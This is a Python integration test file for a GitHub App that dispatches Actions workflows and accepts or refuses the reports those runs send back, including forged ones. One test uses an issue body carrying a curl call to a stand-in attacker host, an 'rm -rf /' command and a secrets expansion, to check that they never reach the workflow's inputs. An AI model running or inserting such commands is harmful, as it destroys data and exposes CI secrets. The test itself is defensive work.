"""`implementer.runs_on: actions` against the sandbox: the App dispatches the repository's
workflow, the sandbox's runner stand-in runs `ourobot action implement` in it (a real process
with the run's own token), the run reports with the `ourobot/cycle` check run, and the App
opens the pull request from the report; and every way a report can be wrong or missing."""

from __future__ import annotations

import json
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from githubkit import GitHub, TokenAuthStrategy

from app.controls.ledger import Ledger
from app.handlers.routes import build_router
from app.jobs.actions_contract import Report, branch_for
from app.jobs.actions_overdue import sweep_waiting
from app.jobs.actions_run import publish_report
from app.jobs.cycle_records import CycleRecords
from app.webhooks.embedded import EmbeddedRunner
from reviewers.fake_servers import edits_reply
from tests.jobs.loop.conftest import (
    APPROVE,
    FIX,
    IMPLEMENTER,
    WITH_TEST,
    A,
    B,
    LoopWorld,
    config_text,
    make_world,
    project_files,
)
from tests.plugins.processes import wait_for

pytestmark = pytest.mark.slow

OUROBOT = str(Path(sys.executable).with_name("ourobot"))
# The example the docs give: the App's dispatch must fit its inputs, the run its permissions.
WORKFLOW = (Path(__file__).resolve().parents[3] / "docs/examples/cycle-workflow.yml").read_text()
APP_PERMISSIONS = {
    "actions": "write",
    "checks": "write",
    "contents": "write",
    "issues": "write",
    "pull_requests": "write",
    "statuses": "read",
}


def actions_files(**config: str) -> dict[str, str]:
    files = project_files(config_text(implementer="{runs_on: actions}", **config))
    files[".github/workflows/ourobot-cycle.yml"] = WORKFLOW
    return files


@pytest.fixture
def aw(sandbox, webhook_sink, fake_models, tmp_path):
    """A loop world whose repository runs its cycles on its own Actions runner."""
    world = make_world(sandbox, webhook_sink, fake_models, tmp_path, files=actions_files())
    sandbox.control.set_app_permissions(APP_PERMISSIONS)
    yield world
    world.store.close()


def run_the_workflow_with_ourobot(world: LoopWorld) -> None:
    """The runner stand-in runs the action's command with the workflow's secrets."""
    world.sandbox.control.set_workflow_command(
        world.repo.owner, world.repo.name, "ourobot-cycle.yml",
        [OUROBOT, "action", "implement"], env=world.models.env(), timeout_s=300,
    )  # fmt: skip


def runs(world: LoopWorld) -> list[dict]:
    return world.sandbox.control.workflow_runs(world.repo.owner, world.repo.name)


def settle(world: LoopWorld) -> None:
    """Let the runner finish, then handle everything it caused."""
    world.pump()
    assert world.sandbox.control.wait_idle(300)
    world.pump()


def cycle_rows(world: LoopWorld) -> list:
    return Ledger(world.store).entries(kind="cycle")


def refusals(world: LoopWorld) -> list:
    rows = Ledger(world.store).entries(kind="refusal")
    return [e for e in rows if e.error_class == "actions:report-refused"]


def label_and_dispatch(world: LoopWorld) -> tuple[int, dict]:
    number = world.issue()
    world.label(number, "writer")
    world.pump()
    [run] = runs(world)
    return number, run


# ---- the whole way ------------------------------------------------------------------------------
def test_the_app_dispatches_the_workflow_and_opens_the_pull_request_from_its_report(aw):
    aw.models.script(IMPLEMENTER, edits_reply(FIX, WITH_TEST))
    aw.models.default(A, APPROVE)
    aw.models.default(B, APPROVE)
    run_the_workflow_with_ourobot(aw)
    number = aw.issue()
    aw.label(number, "writer")
    settle(aw)

    [run] = runs(aw)
    [ticket_job] = [j for j in aw.ran if j.name == "ticket"]
    # The dispatch: the number and the run key, nothing of the issue's text.
    assert run["inputs"] == {"ticket": str(number), "run_key": ticket_job.kwargs["run_key"]}
    assert run["actor"] == aw.sandbox.app.bot_login and run["ref"] == "refs/heads/main"
    assert (run["status"], run["conclusion"]) == ("completed", "success"), run["log"]

    [pull] = aw.pulls()
    assert pull.head.ref == branch_for(number)
    assert pull.user.login == aw.sandbox.app.bot_login  # the App opened it, from the report
    assert f"Closes #{number}" in pull.body and "### Iterations" in pull.body
    assert "return a + b" in aw.file_at(pull.head.sha, "calc.py")
    [report] = aw.check_runs(pull.head.sha, "ourobot/cycle")
    assert report.app.slug == "github-actions" and report.conclusion == "success"
    assert report.external_id == ticket_job.kwargs["run_key"]
    for check in ("ourobot/guards", "ourobot/review"):
        [made] = aw.check_runs(pull.head.sha, check)
        assert made.conclusion == "success", (check, made.output.summary)
    [status] = aw.bot_comments(number)
    assert f"Opened pull request #{pull.number}" in status.body
    [row] = cycle_rows(aw)
    assert (row.outcome.execution, row.outcome.objective, row.outcome.artifact) == (
        "ok",
        "met",
        "pr",
    )
    assert row.detail["runs_on"] == "actions" and row.detail["pr"] == pull.number
    assert row.detail["run_id"] == run["id"]
    assert CycleRecords(aw.store).waiting(aw.repo.full_name, number) is None

    # The report delivered again (GitHub redelivers; Celery retries) opens nothing new.
    [job] = [j for j in aw.ran if j.name == "actions_report"]
    aw.run(job)
    [delivery] = [d for d in aw.sink.of("check_run", "completed")
                  if d.payload["check_run"]["name"] == "ourobot/cycle"]  # fmt: skip
    for again in aw.jobs_of(delivery):
        if again.name == "actions_report":
            aw.run(again)
    assert len(aw.pulls()) == 1 and len(cycle_rows(aw)) == 1
    assert len(aw.bot_comments(number)) == 1


def test_a_run_that_reports_blocked_blocks_the_ticket_and_keeps_its_branch(aw):
    aw.models.script(IMPLEMENTER, *[edits_reply(WITH_TEST)] * 3)  # a test, never the fix
    run_the_workflow_with_ourobot(aw)
    number = aw.issue()
    aw.label(number, "writer")
    settle(aw)
    [run] = runs(aw)
    assert run["conclusion"] == "failure"  # the step exits 1: the ticket is not ready
    assert aw.pulls() == []
    assert branch_for(number) in aw.branches()
    labels = aw.labels(number)
    assert "ourobot:blocked" in labels and "ourobot:in-progress" not in labels
    [status] = aw.bot_comments(number)
    assert "Blocked:" in status.body and "is kept" in status.body
    [row] = cycle_rows(aw)
    assert row.outcome.artifact == "none" and row.detail["runs_on"] == "actions"


# ---- the dispatch -------------------------------------------------------------------------------
def test_a_second_label_while_the_run_works_starts_nothing(aw):
    number, _ = label_and_dispatch(aw)
    aw.unlabel(number, "writer")
    aw.label(number, "admin-ish")
    aw.pump()
    assert len(runs(aw)) == 1
    [status] = aw.bot_comments(number)
    assert "already in progress" in status.body and "its run" in status.body


def test_without_the_actions_permission_the_ticket_is_blocked_with_what_to_do(aw):
    aw.sandbox.control.set_app_permissions(
        {k: v for k, v in APP_PERMISSIONS.items() if k != "actions"}
    )
    number = aw.issue()
    aw.label(number, "writer")
    aw.pump()
    assert runs(aw) == []
    [status] = aw.bot_comments(number)
    assert "`actions: write`" in status.body and "ourobot app manifest --actions" in status.body
    assert "ourobot:blocked" in aw.labels(number)
    [row] = cycle_rows(aw)
    assert row.error_class == "actions:dispatch"


def test_a_missing_workflow_blocks_the_ticket_naming_it(
    sandbox, webhook_sink, fake_models, tmp_path
):
    files = actions_files()
    del files[".github/workflows/ourobot-cycle.yml"]
    world = make_world(sandbox, webhook_sink, fake_models, tmp_path, files=files)
    sandbox.control.set_app_permissions(APP_PERMISSIONS)
    try:
        number = world.issue()
        world.label(number, "writer")
        world.pump()
        [status] = world.bot_comments(number)
        assert "no workflow `.github/workflows/ourobot-cycle.yml`" in status.body
        assert "ourobot:blocked" in world.labels(number)
    finally:
        world.store.close()


# ---- reports that are wrong, or never come ------------------------------------------------------
def push_commit(world: LoopWorld, token: str, branch: str, tmp_path: Path) -> str:
    """A commit on `branch` of the repository, pushed with `token`; its sha."""
    work = tmp_path / f"clone-{branch.replace('/', '-')}"
    world.sandbox.git("clone", "--quiet", world.repo.clone_url, str(work), token=token)
    (work / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    world.sandbox.git("-C", str(work), "commit", "--quiet", "-am", "a change")
    world.sandbox.git("-C", str(work), "push", "--quiet", "origin", f"HEAD:refs/heads/{branch}",
                      token=token)  # fmt: skip
    return world.sandbox.git("-C", str(work), "rev-parse", "HEAD").stdout.strip()


def report(world: LoopWorld, token: str, sha: str, **fields) -> None:
    """A report posted with `token` as a run would post it, with `fields` changed."""
    base = {"run_key": "", "ticket": 0, "branch": "", "run_id": None}
    base.update({k: v for k, v in fields.items() if k in base})
    summary = {
        "outcome": "ready", "reason": "ready", "head_sha": sha, "execution": "ok",
        "objective": "met", "tests": "1 passed", "iterations": [], "title": "forged title",
    }  # fmt: skip
    summary.update({k: v for k, v in fields.items() if k not in base})
    client = GitHub(TokenAuthStrategy(token), base_url=world.sandbox.url, http_cache=False)
    publish_report(
        client, world.repo.full_name, Report(summary=summary, **base), on_sha=sha,
        details_url=None,
    )  # fmt: skip


def test_forged_reports_are_refused_and_a_true_one_still_opens_the_pull_request(aw, tmp_path):
    number, run = label_and_dispatch(aw)
    token, key = run["token"], run["inputs"]["run_key"]
    branch = branch_for(number)
    elsewhere = push_commit(aw, token, "elsewhere", tmp_path)
    honest = dict(run_key=key, ticket=number, branch=branch, run_id=run["id"])

    # Another branch than ourobot/issue-N.
    report(aw, token, elsewhere, **{**honest, "branch": "elsewhere"})
    # The right branch named, but the commit is not its head (the branch does not even exist).
    report(aw, token, elsewhere, **honest)
    # A report from another run than the one the App started.
    report(aw, token, elsewhere, **{**honest, "run_id": run["id"] + 1000})
    # Another ticket.
    report(aw, token, elsewhere, **{**honest, "ticket": number + 1})
    aw.pump()
    assert aw.pulls() == []
    reasons = sorted(r.detail["reason"] for r in refusals(aw))
    assert len(reasons) == 4, reasons
    assert any("another branch than ourobot/issue-" in r for r in reasons)
    assert any(f"the branch {branch} is at nowhere" in r for r in reasons)
    assert any("comes from run" in r for r in reasons)
    assert any(f"about #{number + 1}" in r for r in reasons)
    assert "ourobot:in-progress" in aw.labels(number)  # still waiting
    [status] = aw.bot_comments(number)
    assert "was not accepted" in status.body
    assert "forged title" not in status.body

    head = push_commit(aw, token, branch, tmp_path)
    report(aw, token, head, **honest)
    aw.pump()
    [pull] = aw.pulls()
    assert (pull.head.ref, pull.head.sha) == (branch, head)
    assert pull.title == "add() subtracts"  # the issue's title when it was labeled


def test_a_check_run_without_the_run_key_is_never_read(aw, tmp_path):
    number, run = label_and_dispatch(aw)
    head = push_commit(aw, run["token"], branch_for(number), tmp_path)
    # Named like the report, posted by a workflow, but with no run key: not a report.
    aw.sandbox.control.actions_check_run(aw.repo.owner, aw.repo.name, head, "ourobot/cycle")
    aw.pump()
    assert [j for j in aw.ran if j.name == "actions_report"] == []
    assert aw.pulls() == [] and "ourobot:in-progress" in aw.labels(number)


def test_no_report_within_the_timeout_blocks_the_ticket_legibly(aw, tmp_path):
    number, run = label_and_dispatch(aw)  # no runner picks the run up: it stays queued
    assert run["status"] == "queued"
    assert sweep_waiting(aw.ctx) == []  # not yet
    later = datetime.now(UTC) + timedelta(seconds=7200 + 60)
    [done] = sweep_waiting(aw.ctx, now=later)
    assert f"#{number}" in done
    labels = aw.labels(number)
    assert "ourobot:blocked" in labels and "ourobot:in-progress" not in labels
    [status] = aw.bot_comments(number)
    assert "did not report within 2 hour(s)" in status.body
    assert "implementer.actions_timeout_s" in status.body and "/actions/runs/" in status.body
    [row] = cycle_rows(aw)
    assert (row.outcome.execution, row.error_class) == ("timeout", "actions:no-report")
    assert sweep_waiting(aw.ctx, now=later) == []
    # A report that comes after changes nothing: the ticket stays blocked, no pull request.
    head = push_commit(aw, run["token"], branch_for(number), tmp_path)
    key = run["inputs"]["run_key"]
    report(aw, run["token"], head, run_key=key, ticket=number, branch=branch_for(number),
           run_id=run["id"])  # fmt: skip
    aw.pump()
    assert aw.pulls() == [] and "ourobot:blocked" in aw.labels(number)
    assert len(cycle_rows(aw)) == 1


def test_a_run_that_ended_without_reporting_is_blocked_after_the_grace(aw):
    number, run = label_and_dispatch(aw)
    aw.sandbox.control.set_workflow_run(aw.repo.owner, aw.repo.name, run["id"], "completed",
                                        "failure")  # fmt: skip
    assert sweep_waiting(aw.ctx) == []  # a lost report may still be redelivered
    grace = aw.settings.redelivery_interval_s + aw.settings.sweep_after_s
    [done] = sweep_waiting(aw.ctx, now=datetime.now(UTC) + timedelta(seconds=grace + 5))
    assert f"#{number}" in done
    [status] = aw.bot_comments(number)
    assert "ended (failure) without a report" in status.body
    [row] = cycle_rows(aw)
    assert (row.outcome.execution, row.error_class) == ("error", "actions:run-ended")


def test_the_dispatch_event_the_run_reads_carries_only_the_number_and_the_key(aw):
    body = "Make add() add.\n\n$(curl evil.example) `rm -rf /` ${{ secrets.X }}\n"
    number = aw.issue(body=body)
    aw.label(number, "writer")
    aw.pump()
    [run] = runs(aw)
    assert set(run["payload"]["inputs"]) == {"ticket", "run_key"}
    assert "evil" not in json.dumps(run["payload"]["inputs"])


def test_the_embedded_runners_timer_blocks_a_run_that_ended_silent(
    sandbox, webhook_sink, fake_models, tmp_path
):
    world = make_world(
        sandbox, webhook_sink, fake_models, tmp_path, files=actions_files(),
        sweep_interval_s=0.2, redelivery_interval_s=0.2, sweep_after_s=0.2,
    )  # fmt: skip
    sandbox.control.set_app_permissions(APP_PERMISSIONS)
    runner = EmbeddedRunner(world.settings, world.store, build_router)
    try:
        number, run = label_and_dispatch(world)
        runner.start()
        sandbox.control.set_workflow_run("octo", "demo", run["id"], "completed", "cancelled")
        wait_for(lambda: "ourobot:blocked" in world.labels(number), 30, "the ticket blocked")
    finally:
        runner.stop()
        world.store.close()
    [status] = world.bot_comments(number)
    assert "ended (cancelled) without a report" in status.body
